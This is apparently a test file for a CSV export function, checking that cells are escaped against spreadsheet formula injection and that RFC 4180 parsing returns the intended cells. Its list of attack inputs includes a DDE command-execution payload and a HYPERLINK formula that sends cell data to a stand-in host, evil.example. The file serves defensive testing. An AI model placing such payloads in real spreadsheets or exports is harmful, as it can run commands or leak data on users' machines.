// T23. In: what people and machines may write into a cell. Out: proof that a spreadsheet takes none of it
// for a formula, and that a reader of RFC 4180 gets back the cells that were meant.
import { describe, expect, test } from "bun:test";
import { csvLine } from "../../src/lib/csv";

/** One record, read as RFC 4180 says. */
const parseRecord = (line: string): string[] => {
  const cells: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < line.length; at++) {
    const character = line[at] as string;
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (line[at + 1] === '"') cell += line[at++];
      else isQuoted = false;
    } else if (character === '"') isQuoted = true;
    else if (character === ",") {
      cells.push(cell);
      cell = "";
    } else if (character !== "\r" || line[at + 1] !== "\n") cell += character;
    else break;
  }
  return [...cells, cell];
};

const ATTACKS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "+49 30 123",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '="',
  "=1,2",
];

const HARMLESS = ["", "plain", "a,b", 'say "no"', "two\r\nlines", "1=1", "grün, ö", " =1", "'quoted"];

describe("a line of CSV", () => {
  for (const text of ATTACKS)
    test(`${JSON.stringify(text)} is no formula`, () => {
      const [cell = ""] = parseRecord(csvLine([text, "next"]));
      expect(cell).toBe(`'${text}`);
      expect(csvLine([text])).not.toMatch(/^"?[=+\-@\t\r\n]/);
    });

  test("gives back what was meant, whatever stands beside it", () => {
    for (const left of HARMLESS)
      for (const right of HARMLESS) expect(parseRecord(csvLine([left, right]))).toEqual([left, right]);
  });

  test("numbers, true, false and nothing are no texts", () => {
    expect(csvLine([-5, 0.25, true, false, null, ""])).toBe("-5,0.25,true,false,,\r\n");
  });
});
